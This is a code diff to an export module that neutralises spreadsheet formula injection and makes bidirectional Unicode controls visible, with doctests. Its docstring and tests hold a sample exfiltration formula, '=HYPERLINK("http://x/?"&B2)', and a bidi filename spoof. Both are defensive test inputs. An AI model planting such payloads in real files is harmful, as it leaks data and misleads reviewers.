@@ -159,11 +159,24 @@ def table_safe(rows: list[dict]) -> list[dict]:
     a text cell that a spreadsheet would run as a formula (``=HYPERLINK("http://…?"&B2)``, starting
     with = + - @, a tab or a return) gets a leading apostrophe, the OWASP advice, so it stays text.
 
+    A bidirectional control is written out (``<U+202E>``), as :func:`visible_controls` writes it in code:
+    a student's question holding one was shown reordered in the Review queue ("exe.live" for "evil.exe"),
+    and a TA reviewing it should see that it holds one, not have it dropped.
+
     >>> table_safe([{"q": '=HYPERLINK("http://x/?"&B2)', "n": -1, "c": "-> ok", "t": "什么是熵"}])
     [{'q': '\\'=HYPERLINK("http://x/?"&B2)', 'n': -1, 'c': "'-> ok", 't': '什么是熵'}]
+    >>> table_safe([{"q": "run \u202eexe.live", "c": "\u2066=1+1"}])
+    [{'q': 'run <U+202E>exe.live', 'c': '<U+2066>=1+1'}]
     """
-    return [{k: "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v for k, v in row.items()}
-            for row in rows]
+    return [{k: _cell(v) for k, v in row.items()} for row in rows]
+
+
+def _cell(value):
+    """A table cell as :func:`table_safe` shows it."""
+    if not isinstance(value, str):
+        return value
+    value = _BIDI.sub(lambda m: f"<U+{ord(m.group(0)):04X}>", value)
+    return "'" + value if value.startswith(_FORMULA_START) else value
 
 
 # a fenced block on lines of its own, as agent/compose.py writes the code an answer shows or ran and its output
@@ -293,7 +306,9 @@ def conversation_json(messages: list) -> str:
             if m.answer.error:
                 data["answer"]["error"] = phrase("model_failed_note", m.answer.language)
         out.append(data)
-    return json.dumps(out, ensure_ascii=False, indent=1)
+    # a bidirectional control as its JSON escape ("\\u202e"): the same string once read, but a file opened in an
+    # editor shows the conversation in its order (in JSON they occur only inside strings)
+    return _BIDI.sub(lambda m: f"\\u{ord(m.group(0)):04x}", json.dumps(out, ensure_ascii=False, indent=1))
 
 
 def _short(value, width: int = 60) -> str:
